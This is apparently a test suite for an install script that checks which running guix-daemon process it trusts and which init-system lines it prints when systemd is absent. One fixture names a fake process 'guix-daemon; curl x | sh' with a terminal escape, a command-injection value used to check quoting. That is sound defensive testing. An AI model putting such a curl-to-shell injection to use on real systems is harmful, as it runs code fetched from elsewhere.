/** scripts/install.sh where guix-daemon is no unit of systemd: lines to add. */

import {
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { down, inHost, root, start, until, up, watch, within } from "./lab.ts";
import {
  copyRelease,
  endRelease,
  install,
  makeFresh,
  restartDaemon,
  serveRelease,
  SHIM,
} from "./release.ts";

const test = suite("install: what starts guix-daemon");

test.before(async () => {
  await serveRelease();
  up("fresh:master");
});

test.after(() => {
  endRelease();
  down("fresh");
});

/** Prints the environment that Guix System would give its daemon. */
const SYSTEM_SCRIPT = (services: string) => `
(use-modules (gnu services) (gnu services base) (srfi srfi-1))
(define config
  (service-value (find (lambda (service)
                         (eq? (service-kind service) guix-service-type))
                       ${services})))
(display ((@@ (gnu services base) guix-configuration-environment) config))
`;

/** Runs a program called guix-daemon, as an account, under an odd name. */
const PRETEND = `
cp /usr/bin/sleep /tmp/guix-daemon
exec setpriv --reuid="$1" --clear-groups bash -c '
    exec -a "guix-daemon; curl x | sh \u001b[31m" /tmp/guix-daemon 1000'`;

test("only root's or the store owner's guix-daemon is one, and quoted", async () => {
  makeFresh("fresh", "node");
  copyRelease("fresh");
  const printed = () => {
    const { status, stdout, stderr } = install("fresh", "--dry-run");
    assert.is(status, 0, stderr);
    return /^ {4}env GUIX=\S+ (.*)$/m.exec(stdout)![1];
  };
  const pretend = (user: string) =>
    watch(start("fresh", "sh", "-c", PRETEND, "sh", user));
  const isThere = (uid: number) =>
    readdirSync(`${root("fresh")}/proc`).some((pid) => {
      const directory = `${root("fresh")}/proc/${pid}`;
      return /^\d+$/.test(pid) &&
        statSync(directory, { throwIfNoEntry: false })?.uid === uid &&
        readFileSync(`${directory}/cmdline`, "utf8").includes("curl x");
    });
  const daemon = inHost("fresh", "cat", "/run/guix-daemon.pid").trim();
  inHost("fresh", "kill", "-KILL", daemon);
  const others = pretend("65534");
  // A child that nobody has waited for.
  const zombie =
    "if (!fork) { $0 = 'guix-daemon'; exit } print 'up'; sleep 1000";
  const parent = watch(start("fresh", "perl", "-e", `$| = 1; ${zombie}`));
  try {
    await until("they run", () => isThere(65534) && parent.text() === "up");
    assert.is(printed(), "guix-daemon --build-users-group=guixbuild");
    const odd = pretend("0");
    await until("it runs", () => isThere(0));
    assert.is(printed(), "'guix-daemon; curl x | sh ?[31m' 1000");
    inHost("fresh", "pkill", "-x", "guix-daemon");
    await within("their end", Promise.all([others.ended, odd.ended]));
  } finally {
    parent.child.kill();
    restartDaemon("fresh");
  }
});

test("without systemd it prints the lines to add, for each init system", () => {
  makeFresh("fresh", "node");
  copyRelease("fresh");
  const at = root("fresh");
  const printed = () => {
    const { status, stdout, stderr } = install("fresh", "--dry-run");
    assert.is(status, 0, stderr);
    assert.match(stdout, `\n    env GUIX=${SHIM} guix-daemon --build-users-`);
    return stdout;
  };
  assert.match(printed(), "/etc/init.d/guix-daemon");
  assert.match(printed(), `\n    export GUIX=${SHIM}\n`);
  mkdirSync(`${at}/run/openrc`);
  assert.match(printed(), "/etc/conf.d/guix-daemon");
  assert.match(printed(), `\n    export GUIX=${SHIM}\n`);
  mkdirSync(`${at}/run/current-system/profile`, { recursive: true });
  try {
    const services = /^ {4}\(modify-services[^]*?\n\n/m.exec(printed())![0];
    writeFileSync(`${at}/tmp/system.scm`, SYSTEM_SCRIPT(services));
    const text = inHost("fresh", "guix", "repl", "--", "/tmp/system.scm");
    assert.is(text, `(GUIX=${SHIM})`);
  } finally {
    rmSync(`${at}/run/openrc`, { recursive: true });
    rmSync(`${at}/run/current-system`, { recursive: true });
  }
});

test.run();
